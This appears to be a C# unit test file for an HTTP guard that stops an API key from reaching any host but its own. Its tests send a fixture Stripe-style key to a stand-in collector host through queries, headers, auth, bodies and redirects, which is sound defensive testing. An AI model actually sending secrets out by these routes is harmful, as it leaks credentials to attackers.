using System.Net;
using System.Net.Http.Json;
using System.Text;
using FunctionShield.Findings;
using FunctionShield.Guards.Http;
using FunctionShield.Policies;
using FunctionShield.Reporting;

namespace FunctionShield.Guards.Tests.Http;

/// <summary>What a request carries, in each place where it can stand.</summary>
public sealed class RequestSecretsTests
{
    private const string Key = "sk_live_4eC39HqLyjWDarjtT1";

    private readonly Kept _kept = new();

    public static TheoryData<string, Func<HttpRequestMessage>> Places => new()
    {
        { "query", () => To("/?k=" + Key) },
        { "header", () => With(request => request.Headers.Add("X-Key", Key)) },
        { "bearer", () => With(request => request.Headers.Authorization = new("Bearer", Key)) },
        { "basic", () => With(request => request.Headers.Authorization = new("Basic", Convert.ToBase64String(Encoding.UTF8.GetBytes(Key + ":")))) },
        { "text", () => With(request => request.Content = new StringContent("key: " + Key)) },
        { "bytes", () => With(request => request.Content = new ByteArrayContent(Encoding.UTF8.GetBytes(Key))) },
        { "form", () => With(request => request.Content = new FormUrlEncodedContent([new("a", Key)])) },
        { "json", () => With(request => request.Content = JsonContent.Create(new { a = Key })) },
        { "multipart", () => With(request => request.Content = new MultipartFormDataContent { { new StringContent("x"), "a" }, { new StringContent(Key), "b" } }) },
    };

    [Theory]
    [MemberData(nameof(Places))]
    public async Task A_secret_goes_to_its_own_host_alone(string place, Func<HttpRequestMessage> make)
    {
        using HttpClient client = Client(out Recorder sent);
        using HttpRequestMessage own = make();
        own.RequestUri = new Uri("https://api.stripe.com" + own.RequestUri!.PathAndQuery);
        using HttpResponseMessage response = await client.SendAsync(own);
        Assert.Equal(1, sent.Count);

        await Assert.ThrowsAsync<ShieldBlockedException>(() => client.SendAsync(make()));
        Assert.True(sent.Count == 1, place);
    }

    [Fact]
    public async Task What_is_sent_is_what_was_given()
    {
        using HttpClient client = Client(out Recorder sent);
        foreach (HttpContent content in (HttpContent[])[
            new StringContent("héllo"), JsonContent.Create(new { a = 1 }), new FormUrlEncodedContent([new("a", "b c")]), new MultipartContent { new StringContent("part") }])
        {
            using HttpResponseMessage response = await client.PostAsync("https://collector.example/", content);
        }

        Assert.Equal(["héllo", "{\"a\":1}", "a=b+c"], sent.Bodies[..3]);
        Assert.Contains("part", sent.Bodies[3]);
    }

    [Fact]
    public async Task A_stream_is_left_alone_and_said()
    {
        using HttpClient client = Client(out Recorder sent);
        using HttpResponseMessage response = await client.PostAsync("https://collector.example/", new StreamContent(new MemoryStream(Encoding.UTF8.GetBytes(Key))));
        Assert.Equal([Key], sent.Bodies);
        Assert.Contains(Coverage.RequestContent, _kept.Gaps);
    }

    [Fact]
    public async Task A_redirect_that_drops_the_credentials_is_followed_and_one_that_carries_them_on_is_not()
    {
        using HttpClient client = Client(out Recorder sent, "https://collector.example/", redirects: 3);
        using (HttpRequestMessage request = With(request => request.Headers.Authorization = new("Bearer", Key)))
        {
            request.RequestUri = new Uri("https://api.stripe.com/");
            using HttpResponseMessage response = await client.SendAsync(request);
            Assert.Equal(2, sent.Count);
        }

        sent.Reset();
        using HttpRequestMessage carried = With(request => request.Headers.Add("X-Key", Key));
        carried.RequestUri = new Uri("https://api.stripe.com/");
        await Assert.ThrowsAsync<ShieldBlockedException>(() => client.SendAsync(carried));
    }

    private static HttpRequestMessage To(string path) => new(HttpMethod.Post, "https://collector.example" + path);

    private static HttpRequestMessage With(Action<HttpRequestMessage> change)
    {
        HttpRequestMessage request = To("/");
        change(request);
        return request;
    }

    private HttpClient Client(out Recorder recorder, string? redirect = null, int redirects = 0)
    {
        PolicyReading reading = PolicyReader.Read(
            """{ "secrets": [{ "env": "STRIPE_KEY", "hosts": ["api.stripe.com"] }] }"""u8, "test.json", DateTimeOffset.UtcNow);
        var shield = Shield.Load(new ShieldOptions
        {
            Policy = reading.Policy,
            Reports = _kept,
            Environment = static name => name == "STRIPE_KEY" ? Key : null,
        });
        recorder = new Recorder(redirect);
        return new HttpClient(new ShieldHttpHandler(recorder, shield) { MaxRedirects = redirects });
    }

    private sealed class Recorder(string? redirect) : HttpMessageHandler
    {
        private bool _redirected;

        public int Count { get; private set; }

        public List<string> Bodies { get; } = [];

        public void Reset() => (_redirected, Count) = (false, 0);

        protected override async Task<HttpResponseMessage> SendAsync(HttpRequestMessage request, CancellationToken cancellationToken)
        {
            Count++;
            Bodies.Add(request.Content is null ? "" : await request.Content.ReadAsStringAsync(cancellationToken));
            var response = new HttpResponseMessage(redirect is null || _redirected ? HttpStatusCode.OK : HttpStatusCode.TemporaryRedirect);
            if (redirect is not null && !_redirected)
                response.Headers.Location = new Uri(redirect);
            _redirected = true;
            return response;
        }
    }

    private sealed class Kept : IReportSink
    {
        public List<Coverage> Gaps { get; } = [];

        public void Found(Report report) => Assert.DoesNotContain(Key, report.ToString());

        public void NotInspected(Coverage coverage, Trigger trigger, string requestId) => Gaps.Add(coverage);

        public void PolicyProblem(PolicyError error) => Assert.Fail(error.ToString());

        public void Failed(string where, Exception exception) => Assert.Fail(exception.ToString());
    }
}
